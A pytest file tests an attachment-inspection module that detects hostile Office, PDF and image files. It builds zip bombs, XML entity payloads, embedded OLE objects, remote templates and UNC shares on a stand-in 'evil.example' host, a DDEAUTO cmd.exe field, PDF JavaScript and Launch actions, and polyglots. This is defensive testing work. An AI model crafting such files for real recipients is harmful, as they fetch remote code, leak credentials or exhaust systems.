"""Files that do something to whoever opens them are found by their bytes; ordinary ones pass."""

from __future__ import annotations

import io
import random
import struct
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
import pytest
from PIL import Image

from clausework.consultation.files.attachments import LIMIT, kind_of
from clausework.consultation.files.inspection import inspect

TYPES = "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'/>"
RELATIONS = (
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>{}</Relationships>"
)
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


def document(members: dict[str, bytes | str], main: str = "word/document.xml") -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in ({"[Content_Types].xml": TYPES, main: "<w/>"} | members).items():
            archive.writestr(name, content)
    return data.getvalue()


def related(kind: str, target: str, mode: str = "External") -> bytes:
    line = f"<Relationship Id='r' Type='{KIND}{kind}' Target='{target}' TargetMode='{mode}'/>"
    return document({"word/_rels/document.xml.rels": RELATIONS.format(line)})


def pdf(*objects: str | bytes, catalog: str = "") -> bytes:
    """A PDF of one page with more objects, numbered from 4 on."""
    parts = [
        f"<</Type/Catalog/Pages 2 0 R {catalog}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]>>",
        *objects,
    ]
    data, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + (part if isinstance(part, bytes) else part.encode()) + b"\nendobj\n"
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    start = len(data)
    end = f"xref\n0 {len(parts) + 1}\n0000000000 65535 f \n{table}trailer\n<</Size {len(parts) + 1}/Root 1 0 R>>\n"
    return data + f"{end}startxref\n{start}\n%%EOF\n".encode()


def packed(objects: dict[int, str], more: str = "/Filter/FlateDecode", level: int = 9) -> bytes:
    """A stream of objects."""
    bodies, head = "", []
    for number, body in objects.items():
        head.append(f"{number} {len(bodies)}")
        bodies += body + "\n"
    listed = " ".join(head) + "\n"
    data = zlib.compress((listed + bodies).encode(), level)
    about = f"<</Type/ObjStm/N {len(objects)}/First {len(listed)}/Length {len(data)}{more}>>\nstream\n"
    return about.encode() + data + b"\nendstream"


def jpeg(**more: object) -> bytes:
    data = io.BytesIO()
    exif = Image.Exif()
    exif[0x0112], exif[0x010F], exif[0x8825] = 6, "Phone", {1: "N", 2: (30.0, 15.0, 0.0)}
    Image.effect_noise((320, 240), 60).convert("RGB").save(data, "JPEG", exif=exif, progressive=True, **more)
    return data.getvalue()


def png(width: int = 20, height: int = 10) -> bytes:
    data = io.BytesIO()
    Image.new("RGB", (20, 10), "red").save(data, "PNG")
    head = b"IHDR" + struct.pack(">II", width, height) + data.getvalue()[24:29]
    return data.getvalue()[:12] + head + struct.pack(">I", zlib.crc32(head)) + data.getvalue()[33:]


def found(data: bytes) -> tuple[str, ...]:
    file = io.BytesIO(data)
    kind = kind_of(file)
    assert kind, "it is of no kind that is taken"
    return inspect(file, kind)


def stored(name: str, method: int) -> bytes:
    data = io.BytesIO(document({}))
    with zipfile.ZipFile(data, "a", method) as archive:
        archive.writestr(name, "x" * 1000)
    return data.getvalue()


def encrypted() -> bytes:
    data = bytearray(document({"word/a.bin": "x"}))
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.rindex(sign) + place] |= 1
    return bytes(data)


def lying() -> bytes:
    """The list says that a member has ten bytes, of its million."""
    data = bytearray(document({"word/a.bin": b"\x01" * 1_000_000}))
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(data)


ARCHIVE = document({})
DOCTYPE = '<?xml version="1.0"?><!-- <w> --><!DOCTYPE w [<!ENTITY a "b">]><w>&a;</w>'
HOSTILE = {
    "unpacks to 300 MB": (lambda: document({"word/media/a.bmp": b"\0" * 300_000_000}), "unpacks"),
    "many that together are large": (
        lambda: document({f"word/{n}.bin": random.Random(n).randbytes(30_000) * 100 for n in range(24)}),
        "unpacks",
    ),
    "a list that lies": (lying(), "unread"),
    "protected by a password": (encrypted(), "unread"),
    "packed as office does not": (stored("word/a.bin", zipfile.ZIP_LZMA), "unread"),
    "entities": (document({"word/styles.xml": DOCTYPE}), "entities"),
    "entities in UTF-16": (document({"word/styles.xml": DOCTYPE.encode("utf-16")}), "entities"),
    "entities under another name": (document({"word/a.dat": DOCTYPE}), "entities"),
    "entities in relationships": (document({"word/_rels/document.xml.rels": DOCTYPE}), "entities"),
    "XML in an encoding that hides": (
        document({"word/styles.xml": '<?xml version="1.0" encoding="UTF-7"?><w/>'}),
        "unread",
    ),
    "an OLE object": (document({"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    "a control": (document({"word/activeX/activeX1.bin": OLE}), "embedded"),
    "a program": (document({"word/media/image1.png": b"MZ" + b"\0" * 90}), "embedded"),
    "an archive": (document({"word/media/a.zip": stored("a", 0)[:-1]}), "nested"),
    "a document in a document in a document": (
        document({"word/embeddings/a.docx": document({"word/embeddings/b.docx": ARCHIVE})}),
        "nested",
    ),
    "an object in a document in a document": (
        document({"word/embeddings/a.docx": document({"word/embeddings/o.bin": OLE})}),
        "embedded",
    ),
    "a template of another host": (related("attachedTemplate", "https://evil.example/t.dotm"), "external"),
    "a picture on a share": (related("image", "\\\\evil.example\\a.png"), "external"),
    "a frame of a share": (related("frame", "file://evil.example/a"), "external"),
    "a field that calls a program": (
        document({"word/document.xml": "<w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"}),
        "external",
    ),
    "PDF with a script": (
        pdf("<</S/JavaScript/JS(app.alert(1))>>", catalog="/OpenAction 4 0 R"),
        "script action",
    ),
    "PDF with a name that hides": (pdf("<</S/J#61vaScript/JS(1)>>"), "script"),
    "PDF with a packed script": (pdf(packed({5: "<</S/JavaScript/JS(1)>>"})), "script"),
    "PDF with a stream that is not packed": (
        pdf(packed({5: "<</S /J#61vaScript/JS(1)>>"}, level=0)),
        "script",
    ),
    "PDF with objects that are not declared": (
        pdf(packed({5: "<</S/JavaScript/JS(1)>>"}).replace(b"/ObjStm", b"/Nothing")),
        "script",
    ),
    "PDF with objects coded twice": (
        pdf(packed({5: "<</A 1>>"}, "/Filter[/ASCIIHexDecode/FlateDecode]")),
        "unread",
    ),
    "PDF with objects that are not as they are declared": (
        pdf(packed({5: "<</A 1>>"}).replace(b"stream\n\x78", b"stream\n\x79")),
        "unread",
    ),
    "PDF with objects as they are": (
        pdf(b"<</Type/ObjStm/N 1/First 4>>\nstream\n5 0 <</S/JavaScript>>\nendstream"),
        "script",
    ),
    "PDF with broken objects": (pdf(packed({5: "<</A 1>>"})[:-16] + b"\nendstream"), "unread"),
    "PDF that starts a program": (pdf("<</S/Launch/F(cmd.exe)>>"), "action"),
    "PDF that opens a page on the web": (
        pdf("<</S/URI/URI(https://e.org)>>", catalog="/OpenAction 4 0 R"),
        "action",
    ),
    "PDF that acts when a page is shown": (pdf("<</AA<</O 5 0 R>>>>"), "action"),
    "PDF with a packed opening": (
        pdf(packed({5: "<</S/URI/URI(https://e.org)>>"}), catalog="/OpenAction 5 0 R"),
        "action",
    ),
    "PDF with a file": (pdf(catalog="/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>"), "embedded"),
    "PDF that is encrypted": (pdf("<</Encrypt 9 0 R>>"), "unread"),
    "PDF that is an archive": (pdf() + ARCHIVE, "polyglot"),
    "JPEG that is an archive": (jpeg() + ARCHIVE, "polyglot"),
    "JPEG with an archive of another kind": (jpeg() + b"Rar!\x1a\x07\x01\x00", "polyglot"),
    "PNG that is a PDF": (png() + pdf(), "polyglot"),
    "PNG that is an archive": (png() + ARCHIVE, "polyglot"),
    "PNG of a billion dots": (png(40_000, 30_000), "pixels"),
}


LARGE = [name for name, (data, _) in HOSTILE.items() if callable(data)]


@pytest.mark.parametrize("name", [name for name in HOSTILE if name not in LARGE])
def test_what_a_hostile_file_would_do_is_found(name: str) -> None:
    data, expected = HOSTILE[name]
    tell(data, expected)


@pytest.mark.slow
@pytest.mark.parametrize("name", LARGE)
def test_what_a_large_hostile_file_would_do_is_found(name: str) -> None:
    make, expected = HOSTILE[name]
    tell(make(), expected)


def tell(data: bytes, expected: str) -> None:
    """What is found is what is expected, in little time."""
    began = time.thread_time()
    assert len(data) < LIMIT
    assert " ".join(found(data)) == expected
    assert time.thread_time() - began < 5


@pytest.mark.parametrize(
    "data",
    [
        document({"word/a.bin": "x"}).replace(b"word/a.bin", b"vbaProject"),
        document({"[Content_Types].xml": f"<Types><Override ContentType='{kind}'/></Types>"})
        if (kind := "application/vnd.ms-office.vbaProject")
        else b"",
        document({"[Content_Types].xml": "<T>ms-word.document.macroEnabled.main+xml</T>".encode("utf-16")}),
        document({"xl/macrosheets/sheet1.xml": "<x/>"}, "xl/workbook.xml"),
        b" " * 64 + b"<script>alert(1)</script>",
        b"\xef\xbb\xbf" + b"\n" * 3000 + b"<!doctype html>",
    ],
    ids=["macros", "macros by type", "macros by type in UTF-16", "macro sheet", "blanks", "mark and lines"],
)
def test_what_can_never_be_meant_is_not_taken(data: bytes) -> None:
    assert kind_of(io.BytesIO(data)) == ""


def word_document() -> bytes:
    made, data = docx.Document(), io.BytesIO()
    made.add_heading("意见", 1)
    made.add_paragraph("保存时间不少于一年。")
    made.add_table(2, 2)
    picture = io.BytesIO(jpeg())
    made.add_picture(picture)
    made.part.relate_to("https://example.org/", f"{KIND}hyperlink", is_external=True)
    made.save(data)
    return data.getvalue()


def workbook() -> bytes:
    """A table as Excel writes it, with the settings of a printer and a table of 20,000 rows."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n * 7919}</v></c></row>' for n in range(1, 20_001))
    return document(
        {
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0" encoding="UTF-8"?><worksheet>{rows}</worksheet>',
            "xl/printerSettings/printerSettings1.bin": b"H\0P\0 \0L\0" * 50,
            "xl/drawings/vmlDrawing1.vml": "<xml xmlns:v='urn:schemas-microsoft-com:vml'><br></xml>",
            "docProps/app.xml": "\ufeff<Properties/>".encode(),
        },
        "xl/workbook.xml",
    )


FORM = (
    "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://example.org/)>>>>",
    "<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/Dest[3 0 R/Fit]>>",
    "<</FT/Tx/T(name)/V(x)/Subtype/Widget/Rect[0 0 9 9]/DA(/Helv 0 Tf)>>",
)
ORDINARY = {
    "python-docx": word_document(),
    "table": workbook(),
    "diagram with its table": document({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()}),
    "font that looks like markup": document({"word/fonts/font1.odttf": b"<a\x1b\x07" + b"\x81" * 500}),
    "template of one's own disk": related("attachedTemplate", "file:///C:\\Templates\\a.dotx"),
    "link": related("hyperlink", "https://example.org/"),
    "picture beside it": related("image", "media/image1.png"),
    "links and forms": pdf(*FORM, catalog="/AcroForm<</Fields[6 0 R]>>"),
    "PDF that opens at a place": pdf(catalog="/OpenAction[3 0 R/XYZ null null 0]"),
    "PDF that opens at a place by an object": pdf("<</S/GoTo/D[3 0 R/Fit]>>", catalog="/OpenAction 4 0 R"),
    "PDF as TeX writes it": pdf(
        packed({9: "<</A 1>>", 5: "<</S/GoTo/D[3 0 R/Fit]>>"}), catalog="/OpenAction 5 0 R"
    ),
    "photo": jpeg(),
    "photo that moves": jpeg() + b"\0\0\0\x18ftypmp42" + b"\0" * 500 + jpeg(),
    "photo cut off": jpeg()[:-300],
    "picture": png(),
    "text": "意见：<script> 一词应当解释。".encode(),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_an_ordinary_file_passes(name: str) -> None:
    assert found(ORDINARY[name]) == ()


@pytest.mark.slow
@pytest.mark.office
def test_what_libreoffice_writes_passes(tmp_path: Path) -> None:
    import subprocess

    (tmp_path / "a.docx").write_bytes(word_document())
    for kind in ("odt", "docx:MS Word 2007 XML", "pdf"):
        source = tmp_path / ("a.docx" if kind == "odt" else "a.odt")
        command = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/home"]
        subprocess.run(
            [*command, "--convert-to", kind, "--outdir", tmp_path, source], check=True, capture_output=True
        )
    for name in ("a.docx", "a.pdf"):
        assert found((tmp_path / name).read_bytes()) == ()


@pytest.mark.timing
@pytest.mark.parametrize(
    "made",
    [
        lambda: b"%PDF-1.7\n" + b"stream\n\x78\x9c" * (LIMIT // 9 - 2),
        lambda: b"%PDF-1.7\n" + b"/OpenAction 1 0 R " * (LIMIT // 18 - 1),
        lambda: b"%PDF-1.7\n" + b"#41" * (LIMIT // 3 - 4),
        lambda: pdf(*[packed({n: "/OpenAction 1 0 R " * 4}) for n in range(30_000)]),
        lambda: pdf(packed(dict.fromkeys(range(300_000), "")), catalog="/OpenAction 5 0 R"),
        lambda: pdf(packed({5: "x" * 300_000_000})),
        lambda: pdf(*[packed({5: "x" * 3_000_000})] * 400),
        lambda: document({"word/styles.xml": b"<a>" * 1_300_000}),
        lambda: document({"word/styles.xml": b"<!--" + b" " * 3_900_000}),
        lambda: b"\xff\xd8\xff\xd8" + b"\xff" * (LIMIT - 4),
        lambda: b"\xff\xd8" + b"\xff\xda\x00\x02" * (LIMIT // 4 - 1),
    ],
    ids=[
        "streams",
        "openings",
        "escapes",
        "packed openings",
        "objects",
        "one bomb",
        "bombs",
        "depth",
        "prolog",
        "marks",
        "scans",
    ],
)
def test_what_it_costs_to_look_is_bounded(made: Callable[[], bytes]) -> None:
    data = made()  # only here: they take seconds, and each worker collects this file
    assert len(data) <= LIMIT
    file = io.BytesIO(data)
    kind = kind_of(file)
    began = time.thread_time()
    tracemalloc.start()
    try:
        inspect(file, kind)
        assert tracemalloc.get_traced_memory()[1] < 10 * LIMIT
    finally:
        tracemalloc.stop()
    assert time.thread_time() - began < 20
